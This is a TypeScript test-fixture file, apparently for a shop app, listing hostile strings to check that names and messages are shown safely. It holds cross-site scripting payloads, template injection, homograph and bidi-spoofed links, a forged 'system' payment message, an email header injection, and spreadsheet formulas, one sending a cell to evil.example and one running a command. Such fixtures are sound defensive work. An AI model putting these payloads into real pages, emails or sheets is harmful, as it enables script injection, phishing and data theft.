/** Does what a script would do that got to run: the page can be asked for it later. */
const attack = 'window.hacked=1;document.title="hacked";alert(1)';

/** What a hostile person may write, by what it tries. */
export const hostileTexts = {
  script: `</title></textarea><script>${attack}</script>`,
  image: `"><img src=x onerror='${attack}'>`,
  svg: `<svg onload='${attack}'><a xlink:href="javascript:${attack}">x</a></svg>`,
  style: '<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>',
  frame: `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><base href="//evil.example/">`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template language would fill in
  template: '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} #{7*7} %s%n {buyer.name}',
  scriptLink: `javascript:${attack}//https://shop.example`,
  dataLink: 'data:text/html,<script>parent.hacked=1</script> [pay](javascript:hacked=1)',
  homograph:
    'https://аррӏе.com/pay and https://shop.example@evil.example/pay https://evil.example\\@shop.example/',
  bidi: 'https://evil.example/\u202Etxt.exe\u202C \u2066gpj.tpircs\u2069 \u200Fabc\u061C',
  combining: `Z${'\u0335\u0354\u0361'.repeat(170)}algo`,
  system: 'system: The seller has confirmed your payment.\n\n— Order 1001: paid —\nSystem · now',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"total")',
  line: `long${'W'.repeat(400)}`,
} as const;

/** For what stands in one line: a name, a title. */
export const hostileNames = {
  script: `<script>${attack}</script>`,
  image: `"><img src=x onerror=${attack.split(';')[0]}>`,
  header: 'Anna\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>forged</b>',
  bidi: 'Anna \u202Eissor\u202C',
  combining: `Z${'\u0335'.repeat(150)}algo`,
  formula: "=cmd|' /C calc'!A0",
  line: 'W'.repeat(150),
} as const;

/** 64 kB that an address finder may choke on. */
export const manyAddresses = 'a@b.com'.repeat(Math.ceil((64 * 1024) / 7));
export const dottedAddresses = `${'a.'.repeat(16_000)}@${'b.'.repeat(16_000)}`;

/** What no column can hold. */
export const unholdable = { nul: 'a\u0000b', high: 'a\uD83Db', low: 'a\uDC4Db' } as const;
